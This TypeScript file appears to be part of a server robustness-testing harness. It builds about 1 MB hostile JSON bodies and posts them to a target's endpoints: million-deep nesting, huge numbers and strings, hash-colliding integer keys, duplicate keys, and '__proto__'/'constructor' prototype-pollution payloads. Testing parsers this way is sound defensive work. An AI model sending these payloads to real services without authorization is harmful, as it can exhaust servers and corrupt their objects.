import { bodyPaths } from "./bombs.ts";
import { post, repeat } from "./raw.ts";
import type { Attack, Target } from "./target.ts";

const MEGABYTE = 1_000_000;

/** JSON that is hard to read. Each text is valid, and has about 1 MB. */
const texts: Readonly<Record<"deep-json" | "long-json" | "colliding-keys", readonly (() => string)[]>> = {
  "deep-json": [
    () => inInput("[".repeat(MEGABYTE / 2) + "]".repeat(MEGABYTE / 2)),
    () => inInput('{"a":'.repeat(MEGABYTE / 6) + "1" + "}".repeat(MEGABYTE / 6)),
    () => inInput("[".repeat(999) + "]".repeat(999)),
    () => "[".repeat(MEGABYTE),
  ],
  "long-json": [
    () => inInput("1".repeat(MEGABYTE)),
    () => inInput(`1e${"9".repeat(MEGABYTE)}`),
    () => inInput(`0.${"0".repeat(MEGABYTE)}1`),
    () => inInput(`"${"\\u0000".repeat(MEGABYTE / 6)}"`),
    () => inInput(`[${"0,".repeat(MEGABYTE / 2)}0]`),
    () => inInput(`"${"\\n".repeat(MEGABYTE / 2)}"`),
    () => `${" ".repeat(MEGABYTE)}{"input":{}}`,
    () => inInput(`"${"\u00e9".repeat(MEGABYTE / 2)}"`),
  ],
  "colliding-keys": [
    // Names that are whole numbers have the hash of the number: these share their lower bits, so that they share places in tables.
    () => inInput(objectOf((index) => String((index * 1_048_576) % 4_294_967_295), 60_000)),
    () => inInput(objectOf((index) => String(index * 65_536), 60_000)),
    () => inInput(objectOf((index) => `__proto__${index}`, 50_000)),
    () => inInput(objectOf(() => "same", 100_000)),
    () => `{${'"__proto__":{"a":1},"constructor":{"prototype":{"a":1}},'.repeat(10_000)}"input":{}}`,
    () => objectOf((index) => `k${index}`, 80_000),
  ],
};

export const documents: readonly Attack[] = [
  {
    name: "deep-json",
    does: "arrays and objects nested up to 1,000,000 deep, at every interface",
    play: sendAll("deep-json"),
  },
  { name: "long-json", does: "numbers, texts and lists of 1 MB, at every interface", play: sendAll("long-json") },
  {
    name: "colliding-keys",
    does: "objects with 60,000 names that share a hash, or are one name, or a prototype",
    play: sendAll("colliding-keys"),
  },
];

function sendAll(kind: keyof typeof texts): (target: Target) => Promise<void> {
  return async (target) => {
    const made = texts[kind].map((text) => text());
    const paths = bodyPaths(target).filter((path) => !path.startsWith("PUT"));
    await target.begin();
    await repeat(target, 4, async (turn) => {
      const [method = "", path = ""] = (paths[turn % paths.length] ?? "").split(" ");
      await post(target, path, made[Math.floor(turn / paths.length) % made.length] ?? "", {}, method);
    });
  };
}

function inInput(json: string): string {
  return `{"input":{"value":${json}}}`;
}

function objectOf(name: (index: number) => string, count: number): string {
  return `{${Array.from({ length: count }, (_, index) => `"${name(index)}":0`).join(",")}}`;
}
